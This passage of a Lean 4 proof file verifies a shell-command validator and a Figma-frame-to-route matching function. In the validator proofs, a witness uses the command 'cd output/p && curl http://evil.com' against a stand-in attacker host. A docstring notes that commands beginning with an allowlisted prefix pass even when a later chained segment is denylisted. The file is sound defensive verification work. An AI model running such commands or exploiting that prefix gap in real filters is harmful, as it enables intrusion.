substring. -/
def badPart (raw : List Char) : Prop :=
  pyStrip raw ≠ [] ∧ isPartAllowed (pyStrip raw) = false ∧
    ∃ p ∈ BLOCKED_PATTERNS, containsSub (pyStrip raw) p = true

instance (raw : List Char) : Decidable (badPart raw) := by
  unfold badPart
  infer_instance

/-- The segment loop of `validate_command` raises as soon as the segment list
contains a bad segment (whatever happens on the segments before it, the loop
can only raise or continue). -/
theorem checkChainParts_err : ∀ {parts : List (List Char)},
    (∃ raw ∈ parts, badPart raw) → isErr (checkChainParts parts) = true := by
  intro parts
  induction parts with
  | nil =>
    intro h
    obtain ⟨raw, hmem, _⟩ := h
    simp at hmem
  | cons raw rest ih =>
    intro h
    unfold checkChainParts
    by_cases h0 : pyStrip raw = []
    · rw [if_pos h0]
      apply ih
      obtain ⟨r, hr, hbad⟩ := h
      rcases List.mem_cons.mp hr with heq | hr2
      · subst heq; exact absurd h0 hbad.1
      · exact ⟨r, hr2, hbad⟩
    · rw [if_neg h0]
      by_cases hall : isPartAllowed (pyStrip raw) = true
      · rw [if_pos hall]
        by_cases hnpm : ("npm install".data).isPrefixOf (pyStrip raw) ∧
            ¬ isSafeNpmInstall (pyStrip raw)
        · rw [if_pos hnpm]; rfl
        · rw [if_neg hnpm]
          apply ih
          obtain ⟨r, hr, hbad⟩ := h
          rcases List.mem_cons.mp hr with heq | hr2
          · subst heq; exact absurd hall (by simp [hbad.2.1])
          · exact ⟨r, hr2, hbad⟩
      · rw [if_neg hall]
        cases hfb : findBlocked (pyStrip raw) with
        | some q => rfl
        | none =>
          by_cases hmeta : (pyStrip raw).any (fun c => dangerousShellChars.contains c) = true
          · rw [if_pos hmeta]; rfl
          · rw [if_neg hmeta]
            apply ih
            obtain ⟨r, hr, hbad⟩ := h
            rcases List.mem_cons.mp hr with heq | hr2
            · subst heq
              obtain ⟨q, hq⟩ := findBlocked_isSome hbad.2.2
              rw [hq] at hfb
              cases hfb
            · exact ⟨r, hr2, hbad⟩

/-- C1 (amended): segment-wise checking applies only to commands whose whole
lowercased, trimmed text does not start with an allowlisted command. For
those, `validate_command` raises whenever a chained segment is non-empty,
not per-segment allowlisted (nor a cd/ls/dir segment), and contains a
denylisted substring — and, for unchained commands, whenever the command
contains a denylisted substring. A command that does start with an
allowlisted prefix is accepted wholesale (modulo the npm-install argument
check), even when a later chained segment is denylisted, as the
counterexample shows. -/
theorem C1_segment_check_amended (cmd : String)
    (hnall : ALLOWED_COMMANDS.find? (fun a => a.isPrefixOf (cmdLowered cmd)) = none)
    (hbad : (hasChain (cmdLowered cmd) = true ∧
        ∃ raw ∈ chainParts (cmdLowered cmd), badPart raw) ∨
      (hasChain (cmdLowered cmd) = false ∧
        ∃ p ∈ BLOCKED_PATTERNS, containsSub (cmdLowered cmd) p = true)) :
    isErr (validateCommand cmd) = true := by
  unfold validateCommand
  rw [hnall]
  rcases hbad with ⟨hch, hex⟩ | ⟨hch, hex⟩
  · rw [if_pos hch]
    have herr := checkChainParts_err hex
    cases hcc : checkChainParts (chainParts (cmdLowered cmd)) with
    | error e => rfl
    | ok u => rw [hcc] at herr; exact absurd herr (by simp [isErr])
  · rw [if_neg (by simp [hch])]
    obtain ⟨q, hq⟩ := findBlocked_isSome hex
    rw [hq]
    rfl

/-- C1 witness: a chained command that does not begin with an allowlisted
prefix is rejected because its second segment contains the denylisted
substring "curl". -/
theorem C1_segment_check_amended_witness :
    (ALLOWED_COMMANDS.find?
        (fun a => a.isPrefixOf (cmdLowered "cd output/p && curl http://evil.com")) = none ∧
      hasChain (cmdLowered "cd output/p && curl http://evil.com") = true ∧
      ∃ raw ∈ chainParts (cmdLowered "cd output/p && curl http://evil.com"), badPart raw) ∧
    isErr (validateCommand "cd output/p && curl http://evil.com") = true :=
  ⟨⟨by decide, by decide, by decide⟩,
   C1_segment_check_amended "cd output/p && curl http://evil.com" (by decide)
     (Or.inl ⟨by decide, by decide⟩)⟩

/-- Invariant of the greedy assignment loop: the used-sets track exactly the
route/frame components of the accumulated pairs, duplicate-freeness of those
components is preserved, and every accumulated pair is either inherited or
comes from a score tuple. -/
theorem greedyAssign_inv (scores : List ((ℕ × ℕ) × ℕ × ℕ)) :
    ∀ (pairs : List (ℕ × ℕ)) (res : List (ℕ × ℕ) × List ℕ × List ℕ),
      res = greedyAssign scores pairs (pairs.map Prod.fst) (pairs.map Prod.snd) →
      res.2.1 = res.1.map Prod.fst ∧ res.2.2 = res.1.map Prod.snd ∧
      ((pairs.map Prod.fst).Nodup → (res.1.map Prod.fst).Nodup) ∧
      ((pairs.map Prod.snd).Nodup → (res.1.map Prod.snd).Nodup) ∧
      (∀ x ∈ res.1, x ∈ pairs ∨ ∃ s ∈ scores, x = s.2) := by
  induction scores with
  | nil =>
    intro pairs res hres
    subst hres
    exact ⟨rfl, rfl, id, id, fun x hx => Or.inl hx⟩
  | cons s rest ih =>
    obtain ⟨sc, ri, fi⟩ := s
    intro pairs res hres
    unfold greedyAssign at hres
    by_cases hcond : ¬ (pairs.map Prod.fst).contains ri ∧ ¬ (pairs.map Prod.snd).contains fi
    · rw [if_pos hcond] at hres
      have hri : ri ∉ pairs.map Prod.fst := fun hm => hcond.1 (List.elem_iff.mpr hm)
      have hfi : fi ∉ pairs.map Prod.snd := fun hm => hcond.2 (List.elem_iff.mpr hm)
      have hfst : pairs.map Prod.fst ++ [ri] = (pairs ++ [(ri, fi)]).map Prod.fst := by
        rw [List.map_append]
        rfl
      have hsnd : pairs.map Prod.snd ++ [fi] = (pairs ++ [(ri, fi)]).map Prod.snd := by
        rw [List.map_append]
        rfl
      rw [hfst, hsnd] at hres
      obtain ⟨h1, h2, h3, h4, h5⟩ := ih (pairs ++ [(ri, fi)]) res hres
      refine ⟨h1, h2, ?_, ?_, ?_⟩
      · intro hnd
        apply h3
        rw [← hfst]
        simp [List.nodup_append, hnd, hri]
      · intro hnd
        apply h4
        rw [← hsnd]
        simp [List.nodup_append, hnd, hfi]
      · intro x hx
        rcases h5 x hx with hx2 | hx2
        · rcases List.mem_append.mp hx2 with hmem | hmem
          · exact Or.inl hmem
          · have hx3 : x = (ri, fi) := by simpa using hmem
            exact Or.inr ⟨(sc, ri, fi), List.mem_cons_self _ _, by rw [hx3]⟩
        · obtain ⟨s2, hs2, hxeq⟩ := hx2
          exact Or.inr ⟨s2, List.mem_cons_of_mem _ hs2, hxeq⟩
    · rw [if_neg hcond] at hres
      obtain ⟨h1, h2, h3, h4, h5⟩ := ih pairs res hres
      refine ⟨h1, h2, h3, h4, fun x hx => ?_⟩
      rcases h5 x hx with hx2 | hx2
      · exact Or.inl hx2
      · obtain ⟨s2, hs2, hxeq⟩ := hx2
        exact Or.inr ⟨s2, List.mem_cons_of_mem _ hs2, hxeq⟩

/-- Complement-filter length: keeping the elements rejected by `p` keeps
exactly the rest. -/
theorem length_filter_bool_not {α : Type} (p : α → Bool) (l : List α) :
    (l.filter (fun a => ! p a)).length = l.length - (l.filter p).length := by
  induction l with
  | nil => rfl
  | cons a t ih =>
    have hle := List.length_filter_le p t
    by_cases h : p a
    · simp [List.filter_cons, h, ih]
    · simp [List.filter_cons, h, ih]
      omega

/-- Filtering `range n` by membership in a duplicate-free bounded list keeps
exactly the elements of that list. -/
theorem length_filter_contains_range (n : ℕ) (u : List ℕ) (hnd : u.Nodup)
    (hb : ∀ x ∈ u, x < n) :
    ((List.range n).filter (fun i => u.contains i)).length = u.length := by
  have hndf : ((List.range n).filter (fun i => u.contains i)).Nodup :=
    List.Nodup.filter _ (List.nodup_range n)
  have hset : ((List.range n).filter (fun i => u.contains i)).toFinset = u.toFinset := by
    ext i
    simp only [List.mem_toFinset, List.mem_filter, List.mem_range]
    constructor
    · rintro ⟨_, hc⟩
      exact List.elem_iff.mp hc
    · intro hm
      exact ⟨hb i hm, List.elem_iff.mpr hm⟩
  rw [← List.toFinset_card_of_nodup hndf, hset, List.toFinset_card_of_nodup hnd]

/-- A duplicate-free list of naturals below `n` has at most `n` elements. -/
theorem nodup_bounded_length_le (u : List ℕ) (n : ℕ) (hnd : u.Nodup)
    (hb : ∀ x ∈ u, x < n) : u.length ≤ n := by
  have hsub : u.toFinset ⊆ Finset.range n := by
    intro x hx
    rw [List.mem_toFinset] at hx
    rw [Finset.mem_range]
    exact hb x hx
  have hcard := Finset.card_le_card hsub
  rwa [List.toFinset_card_of_nodup hnd, Finset.card_range] at hcard

/-- The route components of a zip are an initial segment of the left list. -/
theorem map_fst_zip_eq_take {α β : Type} :
    ∀ (l₁ : List α) (l₂ : List β), (l₁.zip l₂).map Prod.fst = l₁.take l₂.length := by
  intro l₁
  induction l₁ with
  | nil => intro l₂; simp
  | cons a t ih =>
    intro l₂
    cases l₂ with
    | nil => simp
    | cons b t₂ => simp [List.zip_cons_cons, ih t₂]

/-- The frame components of a zip are an initial segment of the right list. -/
theorem map_snd_zip_eq_take {α β : Type} :
    ∀ (l₁ : List α) (l₂ : List β), (l₁.zip l₂).map Prod.snd = l₂.take l₁.length := by
  intro l₁
  induction l₁ with
  | nil => intro l₂; simp
  | cons a t ih =>
    intro l₂
    cases l₂ with
    | nil => simp
    | cons b t₂ => simp [List.zip_cons_cons, ih t₂]

/-- Every score tuple of the matrix carries in-range route and frame
indices. -/
theorem scoreTuples_bounds (routes : List String) (frames : List Frame) :
    ∀ s ∈ scoreTuples routes frames,
      s.2.1 < routes.length ∧ s.2.2 < frames.length := by
  intro s hs
  unfold scoreTuples at hs
  have hs2 := (List.mem_filter.mp hs).1
  obtain ⟨L, hL, hsL⟩ := List.mem_flatten.mp hs2
  obtain ⟨fi, hfi, hLeq⟩ := List.mem_mapIdx.mp hL
  rw [← hLeq] at hsL
  obtain ⟨ri, hri, hseq⟩ := List.mem_mapIdx.mp hsL
  rw [← hseq]
  exact ⟨hri, hfi⟩

/-- C10: the pairing function returns a matching — every route index and
every frame index occurs in at most one pair — whose size is exactly
`min(#routes, #frames)` (greedy score matches plus the positional fallback),
and the empty list when either input is empty. -/
theorem C10_pairing_matching (appRoutes : List String) (figmaFrames : List Frame) :
    ((pairFramesToRoutes appRoutes figmaFrames).map Prod.fst).Nodup ∧
    ((pairFramesToRoutes appRoutes figmaFrames).map Prod.snd).Nodup ∧
    (pairFramesToRoutes appRoutes figmaFrames).length =
      min appRoutes.length figmaFrames.length ∧
    (appRoutes = [] ∨ figmaFrames = [] → pairFramesToRoutes appRoutes figmaFrames = []) := by
  by_cases hempty : appRoutes = [] ∨ figmaFrames = []
  · have hz : pairFramesToRoutes appRoutes figmaFrames = [] := by
      unfold pairFramesToRoutes
      rw [if_pos hempty]
    rw [hz]
    refine ⟨List.nodup_nil, List.nodup_nil, ?_, fun _ => rfl⟩
    rcases hempty with h | h <;> simp [h]
  · obtain ⟨h1, h2, h3, h4, h5⟩ := greedyAssign_inv (sortedScores appRoutes figmaFrames) []
      (greedyResult appRoutes figmaFrames) rfl
    have hbound : ∀ x ∈ (greedyResult appRoutes figmaFrames).1,
        x.1 < appRoutes.length ∧ x.2 < figmaFrames.length := by
      intro x hx
      rcases h5 x hx with hx2 | hx2
      · simp at hx2
      · obtain ⟨s, hs, hxeq⟩ := hx2
        have hs2 : s ∈ scoreTuples appRoutes figmaFrames :=
          (pySortBy_perm tupleDescLe _).mem_iff.mp hs
        rw [hxeq]
        exact scoreTuples_bounds appRoutes figmaFrames s hs2
    have hndf : ((greedyResult appRoutes figmaFrames).1.map Prod.fst).Nodup :=
      h3 List.nodup_nil
    have hnds : ((greedyResult appRoutes figmaFrames).1.map Prod.snd).Nodup :=
      h4 List.nodup_nil
    have hbf : ∀ i ∈ (greedyResult appRoutes figmaFrames).1.map Prod.fst,
        i < appRoutes.length := by
      intro i hi
      obtain ⟨x, hx, hxi⟩ := List.mem_map.mp hi
      rw [← hxi]
      exact (hbound x hx).1
    have hbs2 : ∀ i ∈ (greedyResult appRoutes figmaFrames).1.map Prod.snd,
        i < figmaFrames.length := by
      intro i hi
      obtain ⟨x, hx, hxi⟩ := List.mem_map.mp hi
      rw [← hxi]
      exact (hbound x hx).2
    have hkR : (greedyResult appRoutes figmaFrames).1.length ≤ appRoutes.length := by
      have hlen := nodup_bounded_length_le _ _ hndf hbf
      rwa [List.length_map] at hlen
    have hkF : (greedyResult appRoutes figmaFrames).1.length ≤ figmaFrames.length := by
      have hlen := nodup_bounded_length_le _ _ hnds hbs2
      rwa [List.length_map] at hlen
    have hlenUR : (unmatchedRoutes appRoutes figmaFrames).length =
        appRoutes.length - (greedyResult appRoutes figmaFrames).1.length := by
      unfold unmatchedRoutes
      rw [h1, length_filter_bool_not, List.length_range,
        length_filter_contains_range _ _ hndf hbf, List.length_map]
    have hlenUF : (unmatchedFrames appRoutes figmaFrames).length =
        figmaFrames.length - (greedyResult appRoutes figmaFrames).1.length := by
      unfold unmatchedFrames
      rw [h2, length_filter_bool_not, List.length_range,
        length_filter_contains_range _ _ hnds hbs2, List.length_map]
    have hndUR : (unmatchedRoutes appRoutes figmaFrames).Nodup := by
      unfold unmatchedRoutes
      exact List.Nodup.filter _ (List.nodup_range _)
    have hndUF : (unmatchedFrames appRoutes figmaFrames).Nodup := by
      unfold unmatchedFrames
      exact List.Nodup.filter _ (List.nodup_range _)
    have hdisjR : ∀ i ∈ unmatchedRoutes appRoutes figmaFrames,
        i ∉ (greedyResult appRoutes figmaFrames).1.map Prod.fst := by
      intro i hi hmem
      unfold unmatchedRoutes at hi
      have hc := (List.mem_filter.mp hi).2
      rw [h1] at hc
      have helem : ((greedyResult appRoutes figmaFrames).1.map Prod.fst).contains i = true :=
        List.elem_iff.mpr hmem
      rw [helem] at hc
      simp at hc
    have hdisjF : ∀ i ∈ unmatchedFrames appRoutes figmaFrames,
        i ∉ (greedyResult appRoutes figmaFrames).1.map Prod.snd := by
      intro i hi hmem
      unfold unmatchedFrames at hi
      have hc := (List.mem_filter.mp hi).2
      rw [h2] at hc
      have helem : ((greedyResult appRoutes figmaFrames).1.map Prod.snd).contains i = true :=
        List.elem_iff.mpr hmem
      rw [helem] at hc
      simp at hc
    have hmain : pairFramesToRoutes appRoutes figmaFrames =
        pySortBy (fun a b => a.1 ≤ b.1)
          ((greedyResult appRoutes figmaFrames).1 ++
            (unmatchedRoutes appRoutes figmaFrames).zip
              (unmatchedFrames appRoutes figmaFrames)) := by
      unfold pairFramesToRoutes
      rw [if_neg hempty]
    have hperm := pySortBy_perm (fun (a b : ℕ × ℕ) => decide (a.1 ≤ b.1))
      ((greedyResult appRoutes figmaFrames).1 ++
        (unmatchedRoutes appRoutes figmaFrames).zip (unmatchedFrames appRoutes figmaFrames))
    rw [hmain]
    refine ⟨?_, ?_, ?_, fun h => absurd h hempty⟩
    · apply (List.Perm.nodup_iff (hperm.map Prod.fst)).mpr
      rw [List.map_append, map_fst_zip_eq_take]
      refine List.nodup_append.mpr ⟨hndf, hndUR.sublist (List.take_sublist _ _), ?_⟩
      intro a ha hamem
      exact hdisjR a (List.take_subset _ _ hamem) ha
    · apply (List.Perm.nodup_iff (hperm.map Prod.snd)).mpr
      rw [List.map_append, map_snd_zip_eq_take]
      refine List.nodup_append.mpr ⟨hnds, hndUF.sublist (List.take_sublist _ _), ?_⟩
      intro a ha hamem
      exact hdisjF a (List.take_subset _ _ hamem) ha
    · rw [hperm.length_eq, List.length_append, List.length_zip, hlenUR, hlenUF]
      omega

/-- C10 witness: with one route and no frames, the pairing is empty. -/
theorem C10_pairing_matching_witness :
    (((["/"] : List String) = [] ∨ ([] : List Frame) = []) ∧
      pairFramesToRoutes ["/"] [] = []) :=
  ⟨Or.inr rfl, (C10_pairing_matching ["/"] []).2.2.2 (Or.inr rfl)⟩

end QuizAgent
